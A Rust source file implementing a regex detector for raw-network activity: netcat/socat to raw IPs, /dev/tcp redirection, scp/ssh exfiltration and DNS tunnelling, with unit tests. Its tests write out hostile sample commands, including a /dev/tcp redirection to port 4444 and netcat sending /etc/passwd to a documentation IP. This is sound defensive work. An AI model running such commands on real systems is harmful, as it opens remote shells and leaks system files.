//! Raw-network sub-detector: netcat, `/dev/tcp`, socat, SSH exfil, and DNS
//! tunnelling heuristics.

use crate::merge::SubHit;
use regex::Regex;
use std::sync::OnceLock;

fn netcat_or_socat() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| Regex::new(r"(?i)\b(nc|ncat|netcat|socat)\b.*\d{1,3}(\.\d{1,3}){3}").expect("static pattern is valid"))
}

fn dev_tcp() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| Regex::new(r"/dev/tcp/").expect("static pattern is valid"))
}

fn ssh_exfil() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| Regex::new(r"(?i)\bscp\b.*@.*:|\bssh\b.*<\s*\S+").expect("static pattern is valid"))
}

fn dns_tunneling() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(r"(?i)\b(dig|nslookup|host)\s+[A-Za-z0-9+/=]{20,}\.[a-z]{2,}").expect("static pattern is valid")
    })
}

/// Evaluate the raw-network sub-detector.
#[must_use]
pub fn detect(text: &str) -> Vec<SubHit> {
    let mut hits = Vec::new();
    if netcat_or_socat().is_match(text) {
        hits.push(SubHit { name: "raw_network", confidence: 0.85, reason: "netcat/socat connection to a raw IP".into() });
    }
    if dev_tcp().is_match(text) {
        hits.push(SubHit { name: "raw_network", confidence: 0.85, reason: "bash /dev/tcp pseudo-device network redirection".into() });
    }
    if ssh_exfil().is_match(text) {
        hits.push(SubHit { name: "raw_network", confidence: 0.75, reason: "scp/ssh transfer to a remote host".into() });
    }
    if dns_tunneling().is_match(text) {
        hits.push(SubHit { name: "raw_network", confidence: 0.7, reason: "DNS query with an encoded-looking subdomain (possible tunnelling)".into() });
    }
    hits
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn flags_dev_tcp_redirection() {
        assert!(!detect("exec 3<>/dev/tcp/10.0.0.1/4444").is_empty());
    }

    #[test]
    fn flags_netcat_to_raw_ip() {
        assert!(!detect("nc 203.0.113.5 4444 < /etc/passwd").is_empty());
    }

    #[test]
    fn benign_command_no_hits() {
        assert!(detect("ssh user@internal-host 'ls'").is_empty());
    }
}
